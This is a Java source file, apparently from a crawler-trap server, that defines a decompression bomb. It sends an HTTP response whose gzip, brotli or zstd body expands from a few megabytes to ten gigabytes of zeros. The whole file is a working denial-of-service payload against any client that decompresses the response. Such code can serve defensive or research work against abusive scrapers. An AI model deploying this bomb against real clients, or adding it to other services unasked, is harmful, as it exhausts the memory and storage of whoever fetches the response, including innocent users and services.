package io.feedloom.farm;

import com.aayushatharva.brotli4j.Brotli4jLoader;
import com.aayushatharva.brotli4j.encoder.BrotliOutputStream;
import com.github.luben.zstd.ZstdOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.util.zip.GZIPOutputStream;

/**
 * A decompression bomb: a body of ten gigabytes that takes a few megabytes when compressed. It is
 * made while it is sent.
 */
public final class Bomb {
  private static final long TEN_GIGABYTES = 10L << 30;

  private Bomb() {}

  /**
   * Returns an answer with a bomb.
   *
   * @param coding {@code gzip}, {@code br} or {@code zstd}
   */
  public static Answer in(String coding) {
    return (socket, out) -> {
      var head = "HTTP/1.1 200 OK\r\nContent-Encoding: " + coding + "\r\n\r\n";
      out.write(head.getBytes(StandardCharsets.ISO_8859_1));
      byte[] zeros = new byte[1 << 20];
      try (var bomb = encoder(coding, out)) {
        for (long sent = 0; sent < TEN_GIGABYTES; sent += zeros.length) {
          bomb.write(zeros);
          bomb.flush();
          Thread.sleep(1); // Without a pause, this thread would keep the processor.
        }
      }
      return false;
    };
  }

  private static OutputStream encoder(String coding, OutputStream out) throws IOException {
    return switch (coding) {
      case "gzip" -> new GZIPOutputStream(out, 512, true);
      case "br" -> {
        Brotli4jLoader.ensureAvailability();
        yield new BrotliOutputStream(out);
      }
      case "zstd" -> new ZstdOutputStream(out);
      default -> throw new IllegalArgumentException(coding);
    };
  }
}
